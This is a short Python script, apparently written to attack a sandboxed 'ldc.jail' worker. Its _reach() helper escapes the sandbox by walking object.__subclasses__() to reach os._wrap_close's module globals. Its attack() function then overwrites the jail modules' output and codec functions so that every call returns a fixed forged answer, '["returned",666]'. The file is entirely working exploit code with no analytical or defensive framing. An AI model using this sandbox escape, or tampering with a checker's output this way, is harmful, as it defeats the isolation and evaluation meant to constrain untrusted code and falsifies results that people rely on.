# Walks to the modules of the worker, and replaces what writes its answers.
def _reach():
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__
    raise ValueError("not found")


def attack(n):
    for name, module in list(_reach()["sys"].modules.items()):
        if name.startswith("ldc.jail"):
            for word in ("plain", "told_json", "_told", "_call", "codec"):
                if word in module.__dict__:
                    module.__dict__[word] = lambda *_, **__: '["returned",666]'
    return n
